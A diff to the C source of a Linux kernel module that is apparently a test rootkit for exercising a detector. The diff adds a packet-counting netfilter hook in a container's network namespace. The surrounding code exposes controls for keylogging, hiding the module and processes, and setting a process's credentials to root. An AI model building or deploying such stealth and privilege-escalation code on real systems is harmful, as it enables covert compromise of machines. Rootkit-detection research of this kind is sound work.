@@ -23,6 +23,9 @@
  * hook on IPv4 PRE_ROUTING in init_net, registered with
  * nf_register_net_hook, counting packets; seen by the A-VM once the module
  * also hides: a hook into a listed module's text is that module's),
+ * nf_hook_netns (the same in the network namespace of the process that
+ * writes the command, e.g. under `unshare -n`: a container's; the status
+ * shows that namespace's inode number, what /proc/PID/ns/net names),
  * hide_module (THIS_MODULE unlinked from the module list), hide_pid (a
  * task unlinked from the task list), root_pid (a task's cred ids set to 0),
  * euid_pid (a task's euid and fsuid alone set to 0, its real uid left: what
@@ -60,6 +63,7 @@
 #include <net/sock.h>
 #include <net/tcp.h>
 #include <net/net_namespace.h>
+#include <linux/nsproxy.h>
 #include <linux/netfilter.h>
 #include <linux/netfilter_ipv4.h>
 #include <asm/desc.h>
@@ -387,6 +391,45 @@ static int set_nf_hook(bool on)
 	return 0;
 }
 
+/* The same hook in another network namespace: the writer's, kept alive
+ * by the module's reference until the hook is switched off. */
+
+static struct net *nf_hook_net;
+
+static struct nf_hook_ops rk_nf_ns_ops = {
+	.hook = hook_nf,
+	.pf = NFPROTO_IPV4,
+	.hooknum = NF_INET_PRE_ROUTING,
+	.priority = NF_IP_PRI_FIRST,
+};
+
+static int set_nf_hook_netns(bool on)
+{
+	struct net *net;
+	int err;
+
+	if (on == !!nf_hook_net)
+		return 0;
+	if (!on) {
+		nf_unregister_net_hook(nf_hook_net, &rk_nf_ns_ops);
+		put_net(nf_hook_net);
+		nf_hook_net = NULL;
+		return 0;
+	}
+	net = get_net(current->nsproxy->net_ns);
+	if (net == &init_net) {
+		put_net(net);
+		return -EINVAL;
+	}
+	err = nf_register_net_hook(net, &rk_nf_ns_ops);
+	if (err) {
+		put_net(net);
+		return err;
+	}
+	nf_hook_net = net;
+	return 0;
+}
+
 /* ---- (f) hide_module: THIS_MODULE unlinked from the module list ---- */
 
 static struct mutex *module_mutex_p;
@@ -681,14 +724,15 @@ static int untree_task(pid_t nr)
 static int rk_show(char *buf, size_t size)
 {
 	return scnprintf(buf, size,
-			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nnf_hook %d\nhide_module %d\n"
+			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nnf_hook %d\n"
+			 "nf_hook_netns %u\nhide_module %d\n"
 			 "hide_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
 			 "nf_packets_seen %d\n"
 			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
 			 "sys_call_table 0x%lx\nidt_gate 0x%lx\ntext_byte 0x%lx\nrodata_byte 0x%lx\n",
 			 syscall_on, idt_on, text_on, rodata_on, fops_on, keylog_on, nf_hook_on,
-			 module_hidden,
+			 nf_hook_net ? nf_hook_net->ns.inum : 0, module_hidden,
 			 hidden_task ? hidden_task->pid : 0,
 			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
 			 reparented_task ? reparented_task->pid : 0,
@@ -741,6 +785,8 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 		err = set_keylog(val);
 	else if (!strcmp(name, "nf_hook"))
 		err = set_nf_hook(val);
+	else if (!strcmp(name, "nf_hook_netns"))
+		err = set_nf_hook_netns(val);
 	else if (!strcmp(name, "hide_module"))
 		err = set_hide_module(val);
 	else if (!strcmp(name, "hide_pid"))
@@ -824,6 +870,7 @@ static void __exit rk_exit(void)
 	set_fops(false);
 	set_keylog(false);
 	set_nf_hook(false);
+	set_nf_hook_netns(false);
 	set_hide_module(false);
 	hide_task(0);
 	root_task(0, false);
